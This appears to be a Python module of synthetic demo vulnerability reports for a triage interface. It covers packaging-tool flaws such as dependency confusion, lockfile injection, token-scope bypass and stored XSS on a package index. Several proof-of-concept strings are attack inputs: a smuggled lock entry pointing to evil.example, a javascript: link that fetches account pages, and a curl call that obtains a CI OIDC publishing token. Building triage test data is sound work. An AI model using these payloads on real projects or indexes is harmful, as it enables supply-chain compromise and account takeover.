"""Demo report classes about what a tool gets from or sends to an index: resolving, fetching, credentials, uploads."""

from __future__ import annotations

from triage_tui.demo.vuln_class import VulnClass

DEPENDENCY_CONFUSION = VulnClass(
    key="dependency-confusion",
    projects=("pip", "uv", "poetry", "pdm", "conda"),
    titles=(
        "Dependency confusion via extra-index-url picks the public package",
        "Index priority lets a public upload shadow an internal package",
    ),
    summary=(
        "With an internal index configured as an extra index, {tool} merges candidates from all indexes "
        "and picks the highest version. Anyone can register the internal name on the public index with a "
        "higher version number and have it installed instead of the internal package."
    ),
    steps=(
        "Configure an internal index with `acme-utils==1.2.0` as an extra index.",
        "Upload `acme-utils==99.0.0` to the public index.",
        "Run `{command} acme-utils`.",
        "The public 99.0.0 is installed.",
    ),
    poc="{command} --extra-index-url https://pypi.internal.example/simple acme-utils\n",
    impact=(
        "Code execution on developer machines and CI runners of any organisation that relies on the "
        "documented extra-index configuration."
    ),
    cwe="CWE-427",
    vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:C/C:H/I:H/A:H",),
)

CREDENTIAL_LEAK = VulnClass(
    key="credential-leak",
    projects=("pip", "uv", "poetry", "pdm", "twine", "conda", "hatch"),
    titles=(
        "Index credentials written to logs in verbose mode",
        "Password from netrc / keyring leaks into error messages",
        "Credentials embedded in index URL are printed on redirect",
    ),
    summary=(
        "When a request to a private index fails or is redirected, {tool} prints the full URL including "
        "the userinfo part, or includes the credential taken from netrc or the keyring in the exception "
        "text. CI systems keep these logs and often make them public for open-source projects."
    ),
    steps=(
        "Configure a private index with credentials in the URL or in ~/.netrc.",
        "Make the index answer 302 to another host.",
        "Run `{command} -v private-pkg` and read the output.",
    ),
    poc="{command} -v --index-url https://user:s3cr3t-token@pkgs.internal.example/simple private-pkg\n",
    impact="Disclosure of index or upload credentials to anyone who can read build logs.",
    cwe="CWE-532",
    vectors=(
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
        "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N",
    ),
)

LOCKFILE_INJECTION = VulnClass(
    key="lockfile-injection",
    projects=("uv", "poetry", "pdm", "conda"),
    titles=(
        "Lock file injection through crafted package metadata",
        "Newline in dependency marker lets a package add entries to the lock file",
    ),
    summary=(
        "Package metadata values are written into the lock file without escaping. A dependency whose "
        "marker or description contains a newline and TOML syntax can add extra sources or override the "
        "hashes of other packages when {tool} writes the lock."
    ),
    steps=(
        "Publish `innocent==1.0` whose Requires-Dist contains an embedded newline and a [[package]] table.",
        "Run `{command} lock` in a project that depends on it.",
        "Open the lock file: an extra package entry with an attacker URL is present.",
    ),
    poc='Requires-Dist: foo ; python_version > "3"\\n[[package]]\\nname = "requests"\\nsource = "https://evil.example/"\n',
    impact="Supply-chain compromise of every project that relocks while depending on the package.",
    cwe="CWE-74",
    vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:C/C:H/I:H/A:N",),
    attachment="patch",
)

RESOLVER_DOWNGRADE = VulnClass(
    key="resolver-downgrade",
    projects=("pip", "uv", "poetry", "pdm", "conda"),
    titles=(
        "Resolver downgrade attack via yanked or crafted metadata",
        "An attacker-controlled dependency can force a vulnerable version of another package",
    ),
    summary=(
        "A package can declare an upper bound on a popular dependency, and {tool}'s resolver silently "
        "backtracks to an old, known-vulnerable version instead of failing or warning. Yanked releases "
        "are also picked when they are the only match."
    ),
    steps=(
        "Publish `helper==2.0` depending on `urllib3<1.24`.",
        "Run `{command} helper requests`.",
        "urllib3 1.23 is installed with no warning.",
    ),
    poc="{command} helper requests && python -c 'import urllib3; print(urllib3.__version__)'\n",
    impact="Reintroduces fixed vulnerabilities into environments without the user noticing.",
    cwe="CWE-757",
    vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:L/I:L/A:N",),
)

PEP658_MISMATCH = VulnClass(
    key="pep658-mismatch",
    projects=("pip", "uv", "pypi"),
    titles=(
        "PEP 658 metadata can differ from the metadata inside the wheel",
        "Resolver trusts .metadata file that disagrees with the artifact",
    ),
    summary=(
        "The metadata file served next to a distribution (PEP 658 / PEP 714) is used for resolution, "
        "but nothing checks that it matches the METADATA inside the artifact that ends up installed. "
        "Dependencies declared in the wheel can therefore be hidden from reviewers and tools."
    ),
    steps=(
        "Serve a wheel whose embedded METADATA requires `evil` but whose .metadata file does not.",
        "Run `{command} pkg` against that index.",
        "`evil` is not installed, but the wheel's entry points import it lazily from a vendored copy.",
    ),
    poc="curl -s https://index.example/simple/pkg/ | grep data-dist-info-metadata\n",
    impact="Dependency hiding and inconsistent SBOMs; auditing tools see a different graph.",
    cwe="CWE-345",
    vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:N/I:L/A:N",),
)

TLS_ENV = VulnClass(
    key="tls-env",
    projects=("pip", "uv", "poetry", "pdm", "twine", "conda"),
    titles=(
        "TLS verification silently disabled by an environment variable",
        "Setting an unrelated env var turns off certificate checks",
    ),
    summary=(
        "{tool} reads an environment variable inherited from a third-party library that disables TLS "
        "certificate verification for every index, without printing a warning. The variable is commonly "
        "set in corporate images for unrelated tools."
    ),
    steps=(
        "export PYTHONHTTPSVERIFY=0 (or CURL_CA_BUNDLE= with an empty value).",
        "Run `{command} requests` through a MITM proxy with a self-signed certificate.",
        "The install succeeds with no warning.",
    ),
    poc="CURL_CA_BUNDLE= {command} requests  # through mitmproxy, no warning shown\n",
    impact="Network attackers can substitute any package for users whose environment sets the variable.",
    cwe="CWE-295",
    vectors=("CVSS:3.1/AV:A/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N",),
)

VERSION_REDOS = VulnClass(
    key="version-redos",
    projects=("pip", "poetry", "pdm", "setuptools", "hatch", "pypi"),
    titles=(
        "ReDoS in version string parsing",
        "Catastrophic backtracking when parsing a long local version label",
    ),
    summary=(
        "The regular expression {tool} uses to parse version strings (a copy of an older 'packaging' "
        "pattern) backtracks exponentially on long local version labels made of alternating separators."
    ),
    steps=(
        "Run the attached script: parsing a 60-character crafted version takes over 30 s.",
        "Serve that version on an index and run `{command} pkg`: the resolver hangs.",
    ),
    poc=(
        "import time\n"
        "from packaging.version import parse\n"
        "s = '1.0+' + '0.' * 30 + '!'\n"
        "t = time.time(); parse(s); print(time.time() - t)\n"
    ),
    impact="Denial of service of installers and of any service that parses uploaded versions.",
    cwe="CWE-1333",
    vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L",),
    attachment="poc.py",
)

TOKEN_SCOPE = VulnClass(
    key="token-scope",
    projects=("pypi", "twine", "hatch", "uv", "pdm"),
    titles=(
        "Project-scoped upload token accepted for another project",
        "Upload token scope not enforced for a renamed project",
    ),
    summary=(
        "An API token scoped to one project can upload to a second project in some cases: after the "
        "scoped project is renamed, or when the normalised names collide ('foo_bar' vs 'foo-bar'). "
        "{tool} happily sends the upload and the index accepts it."
    ),
    steps=(
        "Create a token scoped to project `foo-bar`.",
        "Rename the project, then register `foo_bar` under another account.",
        "Upload to `foo_bar` with the old token.",
    ),
    poc="twine upload --repository testpypi -u __token__ -p pypi-AgENd... dist/foo_bar-1.0.tar.gz\n",
    impact="Account takeover-style package compromise without the victim's credentials.",
    cwe="CWE-863",
    vectors=("CVSS:3.1/AV:N/AC:H/PR:L/UI:N/S:C/C:N/I:H/A:N",),
)

TRUSTED_PUBLISHING = VulnClass(
    key="trusted-publishing",
    projects=("pypi", "uv", "twine"),
    titles=(
        "Trusted publishing accepts tokens from forked repositories' workflows",
        "Trusted publisher configuration matches on workflow filename only",
    ),
    summary=(
        "A trusted publisher configured without an environment matches any workflow with the same "
        "filename in the repository, including ones triggered by pull_request_target from forks. "
        "Documentation for {tool} suggests this configuration."
    ),
    steps=(
        "Configure a trusted publisher for owner/repo and release.yml without an environment.",
        "From a fork, open a PR that modifies a job triggered by pull_request_target.",
        "Exchange the OIDC token and upload a release.",
    ),
    poc=(
        'curl -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" '
        '"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi"\n'
    ),
    impact="Anyone who can open a pull request can publish releases.",
    cwe="CWE-284",
    vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:N",),
)

DESCRIPTION_XSS = VulnClass(
    key="description-xss",
    projects=("pypi",),
    titles=(
        "Stored XSS through project description rendering",
        "Markdown description renderer allows javascript: links",
    ),
    summary=(
        "The long description of a release is rendered with a sanitiser that lets `javascript:` URLs "
        "through in reference-style links. Any visitor of the project page who clicks the link runs "
        "script in the context of the index's origin."
    ),
    steps=(
        "Upload a release with description content type text/markdown.",
        "Use a reference-style link whose target is javascript:fetch(...).",
        "Open the project page and click the link.",
    ),
    poc="[click me][x]\n\n[x]: javascript:fetch('/manage/account/').then(r=>r.text()).then(alert)\n",
    impact="Session actions as any logged-in maintainer who clicks, e.g. creating API tokens.",
    cwe="CWE-79",
    vectors=("CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N",),
)
